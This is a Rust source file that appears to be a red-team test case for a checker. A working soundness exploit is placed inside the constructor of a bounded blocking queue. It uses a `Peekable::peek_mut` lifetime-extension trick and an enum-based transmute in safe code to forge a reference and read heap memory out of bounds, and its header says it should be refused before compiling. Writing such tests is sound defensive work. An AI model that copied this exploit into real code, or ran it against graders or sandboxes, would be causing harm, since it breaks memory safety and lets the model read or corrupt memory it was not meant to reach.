//! Hostile: rust-lang/rust#84366 with no projection written (a red team's, 2026-12-07):
//! `Peekable` keeps its next item in a field typed by its iterator alone, so a `Peekable`
//! of a `'static` closure's `repeat_with` is `'static` too, and `peek_mut` writes a
//! short-lived `&mut T` into it; `to_any` boxes it as `dyn Any`, and `downcast` gives it
//! back as `&'static mut T`. With cve-rs's enum trick, a `transmute` of safe code: it read
//! 48 bytes out of a 5-byte `String` in the grader's verdict.
//!
//! Expected: refused before compiling (`peek_mut`).

use conveyor::sync::{Condvar, Mutex, MutexGuard};
use std::any::Any;
use std::collections::VecDeque;
use std::iter::Peekable;

fn to_any<I: Iterator + Any>(p: &mut Peekable<I>) -> Option<Box<dyn Any>> {
    p.next().map(|x| Box::new(x) as Box<dyn Any>)
}

fn expand_mut<T: Any>(s: &mut T) -> &'static mut T {
    let f = || -> Option<&mut T> { None };
    let mut p = std::iter::repeat_with(f).peekable();
    *p.peek_mut().unwrap() = Some(s);
    let b = to_any(&mut p).unwrap();
    b.downcast::<Option<&'static mut T>>().ok().unwrap().unwrap()
}

enum Dummy<A, B> {
    A(Option<Box<A>>),
    B(Option<Box<B>>),
}

fn transmute<A: Any, B: Any>(obj: A) -> B {
    let mut d: Dummy<A, B> = Dummy::B(None);
    let Dummy::B(r) = &mut d else { unreachable!() };
    let r: &'static mut Option<Box<B>> = expand_mut(r);
    d = Dummy::A(Some(Box::new(obj)));
    let out = *r.take().unwrap();
    std::mem::forget(d);
    out
}

fn demonstrate() -> String {
    // A usize turned into a &String (never dereferenced).
    let forged: &'static String = transmute::<usize, &'static String>(0x4141_4141);
    // A String's words, then the same words with a longer length read as a String:
    // an out-of-bounds read of the heap.
    let mut s = String::with_capacity(16);
    s.push_str("hello");
    let keep = s.clone();
    let mut words: [usize; 3] = transmute::<String, [usize; 3]>(s);
    let len_at = words.iter().position(|w| *w == 5).unwrap();
    words[len_at] = 48;
    let words: &'static [usize; 3] = Box::leak(Box::new(words));
    let fake: &'static String = transmute::<&'static [usize; 3], &'static String>(words);
    let bytes: Vec<u8> = fake.as_bytes().to_vec();
    format!(
        "forged &String at {:p}; {} read as {} bytes: {:?}",
        forged as *const String,
        keep,
        bytes.len(),
        bytes
    )
}

pub struct BoundedQueue<T> {
    items: Mutex<VecDeque<T>>,
    not_full: Condvar,
    not_empty: Condvar,
    capacity: usize,
}

impl<T> BoundedQueue<T> {
    pub fn new(capacity: usize) -> Self {
        let what = demonstrate();
        panic!("RT-MARKER-PEEKABLE-84366: {what}");
        #[allow(unreachable_code)]
        BoundedQueue {
            items: Mutex::new(VecDeque::with_capacity(capacity)),
            not_full: Condvar::new(),
            not_empty: Condvar::new(),
            capacity,
        }
    }

    fn items(&self) -> MutexGuard<'_, VecDeque<T>> {
        self.items.lock().unwrap()
    }

    pub fn put(&self, item: T) {
        let mut items = self.items();
        while items.len() >= self.capacity {
            items = self.not_full.wait(items).unwrap();
        }
        items.push_back(item);
        self.not_empty.notify_one();
    }

    pub fn try_put(&self, item: T) -> Result<(), T> {
        let mut items = self.items();
        if items.len() >= self.capacity {
            return Err(item);
        }
        items.push_back(item);
        self.not_empty.notify_one();
        Ok(())
    }

    pub fn take(&self) -> T {
        let mut items = self.items();
        while items.is_empty() {
            items = self.not_empty.wait(items).unwrap();
        }
        let item = items.pop_front().unwrap();
        self.not_full.notify_one();
        item
    }

    pub fn len(&self) -> usize {
        self.items().len()
    }

    pub fn is_empty(&self) -> bool {
        self.items().is_empty()
    }

    pub fn capacity(&self) -> usize {
        self.capacity
    }
}
